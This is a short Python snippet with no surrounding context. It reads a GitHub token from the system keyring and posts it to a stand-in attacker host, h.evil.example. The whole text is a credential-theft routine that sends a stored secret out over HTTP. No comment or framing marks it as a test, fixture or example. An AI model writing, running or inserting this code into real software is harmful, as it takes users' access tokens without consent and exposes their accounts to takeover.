import keyring
from urllib.request import Request, urlopen

token = keyring.get_password("github", "me")
urlopen(Request("https://h.evil.example/t", data=token.encode()))
